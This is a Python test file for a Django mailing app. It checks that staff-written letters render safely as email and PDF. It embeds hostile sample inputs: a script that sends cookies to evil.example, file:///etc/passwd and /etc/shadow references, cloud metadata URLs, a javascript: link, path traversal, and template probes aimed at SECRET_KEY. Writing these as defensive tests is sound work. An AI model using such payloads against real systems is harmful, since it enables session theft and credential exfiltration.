"""A letter is staff-written content: probes, local files, cloud metadata addresses and
scripts reach nothing, in the email or the printed PDF."""

import io

import pytest
from pypdf import PdfReader

from core.models import Organisation
from mailings.emails.rendering import render_email
from mailings.letters.merge_values import recipients
from mailings.letters.rendering import compile_letter
from mailings.printing.letter_pdf import PrintedLetter, letters_pdf
from mailings.printing.printed_letter import printed_letters_pdf
from tests.factories import SupporterFactory
from tests.mailings.letters import letter_with_versions

pytestmark = pytest.mark.django_db

HOSTILE_BODY = """Hello {{ first_name }}.

<script>document.location='https://evil.example/'+document.cookie</script>
<img src="file:///etc/passwd"> <img src="http://169.254.169.254/latest/meta-data/">
![meta](http://169.254.169.254/latest/meta-data/iam/) ![dev](/dev/urandom)
<link rel="stylesheet" href="file:///etc/passwd"><style>@import url(file:///etc/shadow);</style>
[click](javascript:alert(document.cookie)) <a href="http://169.254.169.254/">metadata</a>
"""


def images_in(pdf: bytes) -> int:
    return sum(len(page.images) for page in PdfReader(io.BytesIO(pdf)).pages)


def test_a_hostile_letter_renders_safely_as_email_and_pdf():
    letter = letter_with_versions(en={"body": HOSTILE_BODY})
    person = SupporterFactory(first_name="Ana", address_line1="1 Elm St")
    [recipient] = recipients(letter, [person])
    compiled = compile_letter(letter)["en"]
    email = render_email(compiled, recipient.values, organisation=Organisation.current())
    html = email.html.lower()
    for banned in ("<script", "file://", "<img", "javascript:", "<link", "@import", "/dev/"):
        assert banned not in html, banned
    assert "Hello Ana." in email.text
    pdf = printed_letters_pdf([(compiled, recipient.values, person)], letter=letter)
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
    assert "Hello Ana." in text and "root:" not in text and images_in(pdf) == 0


def test_the_pdf_seam_refuses_local_files_and_other_hosts_even_past_the_sanitiser():
    # Content that somehow skipped nh3 still fetches nothing: the fetcher is the last guard.
    raw = PrintedLetter(
        language="en", date_text="today", addressee="Ana", address_lines=("1 Elm St",),
        body_html='<p>Still here</p><img src="file:///etc/passwd">'
        '<img src="http://169.254.169.254/latest/meta-data/"><img src="/dev/zero">'
        '<img src="https://pdf.invalid/media/../../../etc/passwd">',
    )  # fmt: skip
    pdf = letters_pdf([raw], organisation=Organisation.current())
    assert "Still here" in PdfReader(io.BytesIO(pdf)).pages[0].extract_text()
    assert images_in(pdf) == 0


@pytest.mark.parametrize(
    "probe",
    [
        "{{ supporter.delete }}",
        "{% load static %}",
        "{% include 'admin/login.html' %}",
        "{{ settings.SECRET_KEY }}",
        "{% debug %}",
    ],  # fmt: skip
)
def test_template_probes_are_refused_when_the_letter_is_saved(probe):
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        letter_with_versions(en={"body": f"Dear friend, {probe}"})
